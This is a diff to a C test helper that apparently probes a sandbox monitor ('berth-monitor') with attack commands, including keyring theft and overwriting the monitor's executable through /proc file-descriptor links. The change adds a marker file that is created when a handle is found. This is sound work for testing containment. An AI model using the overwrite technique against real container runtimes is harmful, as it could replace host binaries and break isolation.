@@ -8,7 +8,7 @@
  *   key-find NAME         searches the session keyring
  *   key-steal RING NAME   tries to reach a keyring by its number
  *   watch FILE            attacks every process named berth-monitor until FILE exists
- *   overwrite FILE        writes to the executable of every process that is the monitor until FILE exists
+ *   overwrite FILE FIRST  writes to the executable of every process that is the monitor until FILE exists; creates FIRST when it has found one
  */
 #define _GNU_SOURCE
 #include <dirent.h>
@@ -147,7 +147,7 @@ static int watch(const char *end)
 }
 
 /* Opens the executable of every process it can and writes to it: a program started as `#!/proc/self/exe` is the monitor's. */
-static int overwrite(const char *end)
+static int overwrite(const char *end, const char *first)
 {
 	char path[64];
 	int held = 0, writable = 0, written = 0;
@@ -163,6 +163,7 @@ static int overwrite(const char *end)
 			snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
 			if (readlink(path, target, sizeof target - 1) > 0 && strstr(target, "monitor") != NULL) {
 				held++;
+				close(open(first, O_WRONLY | O_CREAT, 0600));
 				for (int tries = 0; tries < 2000; tries++) {
 					const int again = open(path, O_RDWR);
 					if (again < 0) {
@@ -196,7 +197,7 @@ int main(int count, char **arguments)
 	} else if (strcmp(command, "key-find") == 0) show("key", search(SESSION, arguments[2]));
 	else if (strcmp(command, "key-steal") == 0) return key_steal(atol(arguments[2]), arguments[3]);
 	else if (strcmp(command, "watch") == 0) return watch(arguments[2]);
-	else if (strcmp(command, "overwrite") == 0) return overwrite(arguments[2]);
+	else if (strcmp(command, "overwrite") == 0) return count < 4 ? 98 : overwrite(arguments[2], arguments[3]);
 	else return 99;
 	return 0;
 }
